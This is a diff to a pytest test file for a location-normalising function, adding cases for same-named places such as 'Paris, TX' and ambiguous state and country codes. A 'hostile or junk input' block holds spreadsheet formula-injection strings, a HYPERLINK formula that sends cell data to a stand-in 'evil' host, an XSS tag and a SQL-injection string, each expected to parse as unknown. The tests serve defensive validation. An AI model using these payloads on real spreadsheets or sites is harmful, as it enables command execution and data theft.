@@ -7,6 +7,7 @@ import time
 import pytest
 
 from foundation.regions import region_of
+from sandbox.tables import LOCATIONS
 from tools.geo import Place, gazetteer, normalize_location
 
 CASES = [
@@ -51,7 +52,6 @@ CASES = [
     ("Living in Berlin", "DE", "Berlin"),
     ("Berlin / Remote", "DE", "Berlin"),
     ("Germany", "DE", None),
-    ("DE", "DE", None),
     ("India", "IN", None),
     ("USA", "US", None),
     ("U.S.", "US", None),
@@ -59,7 +59,7 @@ CASES = [
     ("England", "GB", None),
     ("Deutschland", "DE", None),
     ("España", "ES", None),
-    ("Georgia", "GE", None),
+    ("Tbilisi, Georgia", "GE", "Tbilisi"),
     ("Wilmington, DE", "US", None),
     ("🇩🇪", "DE", None),
     ("Earth 🇺🇸", "US", None),
@@ -75,6 +75,144 @@ def test_locations(raw: str, country: str, city: str | None) -> None:
 @pytest.mark.parametrize("raw", ["Remote", "Earth", "localhost", "🌍", "", "   ", None, "in the cloud", "turkey"])
 def test_unknown_locations(raw: str | None) -> None:
     assert normalize_location(raw) == Place()
+
+
+# A US state (name or USPS code) or a Canadian province after a city wins over a same-named city
+# abroad; a bare well-known name keeps its usual country; what stays ambiguous stays unknown (None).
+PLACES = [
+    ("Paris, TX", "US", "Paris"),
+    ("Paris, Texas", "US", "Paris"),
+    ("Paris Texas", "US", "Paris"),
+    ("Paris TX", "US", "Paris"),
+    ("Paris (TX)", "US", "Paris"),
+    ("Paris, TX, USA", "US", "Paris"),
+    ("Paris TX 75460", "US", "Paris"),
+    ("PARIS, TX", "US", "Paris"),
+    ("Paris", "FR", "Paris"),
+    ("Berlin, NH", "US", "Berlin"),
+    ("Berlin NH", "US", "Berlin"),
+    ("Berlin, CT", "US", "Berlin"),
+    ("Berlin, WI", "US", "Berlin"),
+    ("Berlin", "DE", "Berlin"),
+    ("London, ON", "CA", "London"),
+    ("London Ontario", "CA", "London"),
+    ("London, KY", "US", "London"),
+    ("London, England", "GB", "London"),
+    ("Moscow, ID", "US", "Moscow"),
+    ("Moscow", "RU", "Moscow"),
+    ("Dublin, OH", "US", "Dublin"),
+    ("Dublin, CA", "US", "Dublin"),
+    ("Dublin", "IE", "Dublin"),
+    ("Athens, GA", "US", "Athens"),
+    ("Athens, Georgia", "US", "Athens"),
+    ("Athens", "GR", "Athens"),
+    ("Rome, GA", "US", "Rome"),
+    ("Rome, NY", "US", "Rome"),
+    ("Rome, Italy", "IT", "Rome"),
+    ("Birmingham, AL", "US", "Birmingham"),
+    ("Birmingham", "GB", "Birmingham"),
+    ("Birmingham, UK", "GB", "Birmingham"),
+    ("Manchester, NH", "US", "Manchester"),
+    ("Manchester", "GB", "Manchester"),
+    ("Cambridge, MA", "US", "Cambridge"),
+    ("Cambridge", "GB", "Cambridge"),
+    ("Hamburg, NY", "US", "Hamburg"),
+    ("Hamburg", "DE", "Hamburg"),
+    ("Florence, AL", "US", "Florence"),
+    ("Florence, SC", "US", "Florence"),
+    ("Florence", "IT", "Florence"),
+    ("Toledo, OH", "US", "Toledo"),
+    ("Toledo, Spain", "ES", "Toledo"),
+    ("Toledo", None, None),
+    ("Valencia, CA", "US", "Valencia"),
+    ("Valencia", "ES", "Valencia"),
+    ("Lima, OH", "US", "Lima"),
+    ("Lima", "PE", "Lima"),
+    ("Alexandria, VA", "US", "Alexandria"),
+    ("Alexandria, Egypt", "EG", "Alexandria"),
+    ("Alexandria", None, None),
+    ("Melbourne, FL", "US", "Melbourne"),
+    ("Melbourne, VIC", "AU", "Melbourne"),
+    ("Melbourne, Victoria", "AU", "Melbourne"),
+    ("Melbourne", "AU", "Melbourne"),
+    ("Vancouver, WA", "US", "Vancouver"),
+    ("Vancouver, WA, USA", "US", "Vancouver"),
+    ("Vancouver, BC", "CA", "Vancouver"),
+    ("Vancouver", "CA", "Vancouver"),
+    ("Kingston, ON", "CA", "Kingston"),
+    ("Kingston, Jamaica", "JM", "Kingston"),
+    ("Kingston, NY", "US", "Kingston"),
+    ("Kingston", None, None),
+    ("Victoria, BC", "CA", "Victoria"),
+    ("Victoria BC", "CA", "Victoria"),
+    ("Victoria, TX", "US", "Victoria"),
+    ("Victoria, Australia", "AU", None),
+    ("Victoria", None, None),
+    ("Georgia", None, None),
+    ("Georgia, USA", "US", None),
+    ("Perth, WA", "AU", "Perth"),
+    ("Perth, Scotland", "GB", "Perth"),
+    ("Sydney, NS", "CA", "Sydney"),
+    ("St. Petersburg, FL", "US", "Saint Petersburg"),
+    ("Milan, TN", "US", "Milan"),
+    ("Porto Alegre, RS", "BR", "Porto Alegre"),
+    ("Belgrade, RS", "RS", "Belgrade"),
+    ("Toronto, CA", "CA", "Toronto"),
+    ("Springfield, IL", "US", None),
+    ("Springfield IL", "US", None),
+    ("Springfield", None, None),
+    ("Hamilton, ON", "CA", None),
+    ("Darwin, NT", "AU", "Darwin"),
+    ("Kyiv / Berlin, NH", "US", "Berlin"),
+    # lone codes: read when they have one meaning and are not words
+    ("TX", "US", None),
+    ("USA", "US", None),
+    ("BC", "CA", None),
+    ("DE", None, None),  # Germany or Delaware
+    ("IN", None, None),  # India or Indiana
+    ("in", None, None),
+    ("CA", None, None),  # Canada or California
+    ("ME", None, None),  # Montenegro or Maine
+    ("WA", None, None),  # Washington or Western Australia
+    ("NT", None, None),  # Northwest Territories or Northern Territory
+    ("OR", None, None),  # a word
+    ("OH", None, None),
+    ("🇩🇪 DE", "DE", None),
+    # hostile or junk input
+    ("=cmd|' /C calc'!A0", None, None),
+    ('=HYPERLINK("http://evil/?"&A2,"Click")', None, None),
+    ("-2+3+cmd|' /C calc'!A0", None, None),
+    ("+49 30 123456", None, None),
+    ("<script>alert(1)</script>", None, None),
+    ("' OR 1=1 --", None, None),
+    ("🔥🔥🔥", None, None),
+    ("🏳️‍🌈", None, None),
+    ("\u202eXT ,siraP", None, None),
+    ("\x00\x00", None, None),
+    ("☕ Paris, TX ☕", "US", "Paris"),
+    ("=Paris, TX", "US", "Paris"),
+]
+
+
+@pytest.mark.parametrize(("raw", "country", "city"), PLACES, ids=[raw for raw, _, _ in PLACES])
+def test_same_named_places_and_ambiguity(raw: str, country: str | None, city: str | None) -> None:
+    assert normalize_location(raw) == Place(country=country, region=region_of(country), city=city)
+
+
+def test_the_place_table_covers_enough() -> None:
+    assert len(PLACES) >= 40
+
+
+@pytest.mark.parametrize(("raw", "country", "city"), [x[:3] for x in LOCATIONS], ids=[str(x[0]) for x in LOCATIONS])
+def test_the_sandbox_locations_read_as_their_truth(raw: str | None, country: str | None, city: str | None) -> None:
+    """The enricher reads the sandbox's profile locations as the sandbox's ground truth has them."""
+    assert normalize_location(raw) == Place(country=country, region=region_of(country), city=city)
+
+
+def test_huge_locations_are_read_quickly() -> None:
+    started = time.perf_counter()
+    assert normalize_location.__wrapped__("Paris, TX " * 5000).country == "US"
+    assert time.perf_counter() - started < 2.0
 
 
 def test_region_words_give_a_region_without_country() -> None:
